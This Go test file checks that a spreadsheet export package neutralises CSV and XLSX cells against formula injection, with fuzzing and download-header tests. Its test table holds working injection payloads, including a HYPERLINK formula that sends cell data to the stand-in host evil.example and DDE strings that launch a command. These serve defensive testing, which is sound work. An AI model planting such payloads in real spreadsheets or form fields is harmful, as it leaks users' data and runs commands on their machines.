package document

import (
	"bytes"
	"encoding/csv"
	"math"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"haven/internal/document/doctest"
)

// hostile are cells a person could type into any text field, each of which a
// spreadsheet would run or read as a formula if written as it is (OWASP CSV
// injection), with what the export must hold instead.
var hostile = []struct{ in, want string }{
	{`=HYPERLINK("https://evil.example/?d="&A1,"Click")`, `'=HYPERLINK("https://evil.example/?d="&A1,"Click")`},
	{"=1+1", "'=1+1"},
	{"+44 7700 900123", "'+44 7700 900123"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"-1", "'-1"}, // typed text that looks like a number is still text
	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{"＝1+1", "'＝1+1"}, // full-width equals sign
	{"＋1", "'＋1"},
	{"－1", "'－1"},
	{"＠SUM(A1)", "'＠SUM(A1)"},
	{"'=already quoted", "'=already quoted"}, // a leading quote is not a formula sign: left as typed
	{"", ""},
	{"plain words", "plain words"},
	{"Wiśniewska-Łącka", "Wiśniewska-Łącka"},
	{"a=b", "a=b"},
	{" =1+1", " =1+1"}, // a leading space makes it text in every spreadsheet
	{"2026-03", "2026-03"},
}

func TestNeutraliseHostileCells(t *testing.T) {
	for _, tc := range hostile {
		if got := Neutralise(tc.in); got != tc.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func hostileTable() Table {
	tb := Table{Sheet: "Hostile", Header: []string{"Said", "=Header", "Count", "Change"}}
	for i, tc := range hostile {
		tb.Rows = append(tb.Rows, []Cell{Text(tc.in), Text("-" + tc.in), Int(int64(-i)), Number(-0.5 * float64(i))})
	}
	return tb
}

// Every text cell and header of a CSV export is neutralised; the numbers
// Haven computed stay numbers, negative ones included.
func TestWriteCSVNeutralisesEveryTextCell(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, hostileTable()); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(records[0], "|"); got != "Said|'=Header|Count|Change" {
		t.Errorf("header %q", got)
	}
	for i, tc := range hostile {
		row := records[i+1]
		if row[0] != tc.want || row[1] != "'-"+tc.in {
			t.Errorf("row %d: %q, %q; want %q, %q", i, row[0], row[1], tc.want, "'-"+tc.in)
		}
		if want := []string{strconv.Itoa(-i), ftoa(-0.5 * float64(i))}; row[2] != want[0] || row[3] != want[1] {
			t.Errorf("row %d numbers %q, %q; want %q", i, row[2], row[3], want)
		}
	}
}

func ftoa(f float64) string {
	var b bytes.Buffer
	_ = WriteCSV(&b, Table{Rows: [][]Cell{{Number(f)}}})
	return strings.TrimSpace(strings.Split(b.String(), "\n")[1])
}

func TestCSVNumbers(t *testing.T) {
	for _, tc := range []struct {
		c    Cell
		want string
	}{
		{Int(-3), "-3"}, {Int(0), "0"}, {Number(-2.5), "-2.5"}, {Number(1e21), "1000000000000000000000"},
		{Number(math.NaN()), ""}, {Number(math.Inf(-1)), ""}, {Number(0.1), "0.1"},
	} {
		if got := tc.c.csv(); got != tc.want {
			t.Errorf("%+v: %q, want %q", tc.c, got, tc.want)
		}
	}
}

// The same table as XLSX, read back with excelize: text cells hold the
// neutralised words and no cell is a formula; Haven's numbers are number
// cells.
func TestWriteXLSXNeutralisesEveryTextCell(t *testing.T) {
	var b bytes.Buffer
	if err := WriteXLSX(&b, hostileTable()); err != nil {
		t.Fatal(err)
	}
	sheet, rows, err := doctest.ReadXLSX(b.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if sheet != "Hostile" {
		t.Errorf("sheet %q", sheet)
	}
	if len(rows) != len(hostile)+1 {
		t.Fatalf("%d rows", len(rows))
	}
	if rows[0][1].Value != "'=Header" {
		t.Errorf("header %+v", rows[0])
	}
	for i, tc := range hostile {
		row := rows[i+1]
		// excelize keeps the text of a cell; an XML-invalid carriage return
		// comes back as a line feed in some readers, so compare after the quote.
		if len(row) < 4 {
			t.Fatalf("row %d: %+v", i, row)
		}
		if want := strings.ReplaceAll(tc.want, "\r", "\n"); strings.ReplaceAll(row[0].Value, "\r", "\n") != want || row[0].Number {
			t.Errorf("row %d: %+v, want text %q", i, row[0], tc.want)
		}
		if !strings.HasPrefix(row[1].Value, "'-") {
			t.Errorf("row %d: %+v not neutralised", i, row[1])
		}
		if !row[2].Number || row[2].Value != strconv.Itoa(-i) || !row[3].Number || row[3].Value != ftoa(-0.5*float64(i)) {
			t.Errorf("row %d numbers: %+v %+v", i, row[2], row[3])
		}
		for _, c := range row {
			if c.Formula != "" {
				t.Errorf("row %d has a formula %q", i, c.Formula)
			}
		}
	}
}

func TestSheetName(t *testing.T) {
	for in, want := range map[string]string{"": "Data", "Outcomes": "Outcomes", "a/b:c": "a-b-c", "'quoted'": "quoted",
		strings.Repeat("x", 40): strings.Repeat("x", 31), "   ": "Data"} {
		if got := sheetName(in); got != want {
			t.Errorf("sheetName(%q) = %q, want %q", in, got, want)
		}
	}
}

// Whatever the text, the neutralised cell never starts with a formula sign,
// differs from the input by at most a quote in front, and survives a CSV
// round trip and an XLSX one unchanged.
func FuzzNeutralise(f *testing.F) {
	for _, tc := range hostile {
		f.Add(tc.in)
	}
	f.Add("\x00=")
	f.Add("\xff\xfe=1")
	f.Fuzz(func(t *testing.T, s string) {
		n := Neutralise(s)
		for _, r := range formulaStarts {
			if strings.HasPrefix(n, string(r)) {
				t.Fatalf("Neutralise(%q) = %q starts with %q", s, n, r)
			}
		}
		if n != s && n != "'"+s {
			t.Fatalf("Neutralise(%q) = %q", s, n)
		}
		if n == "'"+s && !strings.ContainsAny(firstRune(s), formulaStarts) {
			t.Fatalf("Neutralise(%q) quoted a harmless cell", s)
		}
		var b bytes.Buffer
		// Two columns, as a row of one empty field is a blank line in CSV.
		if err := WriteCSV(&b, Table{Header: []string{"h", "i"}, Rows: [][]Cell{{Text(s), Int(1)}}}); err != nil {
			t.Fatal(err)
		}
		rec, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		// encoding/csv reads "\r\n" inside a quoted field as "\n".
		if want := strings.ReplaceAll(n, "\r\n", "\n"); len(rec) != 2 || rec[1][0] != want {
			t.Fatalf("CSV round trip of %q: %q", s, rec)
		}
		if !utf8.ValidString(s) {
			return // XLSX is XML, which holds only valid text; excelize replaces the rest
		}
		b.Reset()
		if err := WriteXLSX(&b, Table{Header: []string{"h"}, Rows: [][]Cell{{Text(s)}}}); err != nil {
			t.Fatal(err)
		}
		_, rows, err := doctest.ReadXLSX(b.Bytes())
		if err != nil {
			t.Fatal(err)
		}
		if n != "" && (len(rows) != 2 || len(rows[1]) != 1 || rows[1][0].Formula != "" || rows[1][0].Number) {
			t.Fatalf("XLSX round trip of %q: %+v", s, rows)
		}
		if len(rows) == 2 && len(rows[1]) == 1 {
			for _, r := range formulaStarts {
				if strings.HasPrefix(rows[1][0].Value, string(r)) {
					t.Fatalf("XLSX cell %q starts with %q", rows[1][0].Value, r)
				}
			}
		}
	})
}

func firstRune(s string) string {
	for _, r := range s {
		return string(r)
	}
	return ""
}

// A download is sent whole, as an attachment with a safe file name and the
// format's content type; an unknown format is an error before anything is
// written.
func TestDownload(t *testing.T) {
	tb := Table{Header: []string{"Said"}, Rows: [][]Cell{{Text("=1+1")}}}
	for _, tc := range []struct{ format, name, ctype, disposition string }{
		{"csv", "evaluation-extract", CSVType, `attachment; filename="evaluation-extract.csv"`},
		{"xlsx", `a"b/../c`, XLSXType, `attachment; filename="a-b-..-c.xlsx"`},
	} {
		w := httptest.NewRecorder()
		if err := Download(w, tb, tc.format, tc.name); err != nil {
			t.Fatal(err)
		}
		if w.Code != 200 || w.Header().Get("Content-Type") != tc.ctype || w.Header().Get("Content-Disposition") != tc.disposition ||
			w.Header().Get("Content-Length") != strconv.Itoa(w.Body.Len()) {
			t.Errorf("%s: %d %v", tc.format, w.Code, w.Header())
		}
		if tc.format == "csv" && w.Body.String() != "Said\n'=1+1\n" {
			t.Errorf("csv body %q", w.Body.String())
		}
	}
	w := httptest.NewRecorder()
	if err := Download(w, tb, "ods", "x"); err == nil || w.Body.Len() != 0 || w.Header().Get("Content-Type") != "" {
		t.Errorf("an unknown format: %v, %d bytes written", err, w.Body.Len())
	}
}
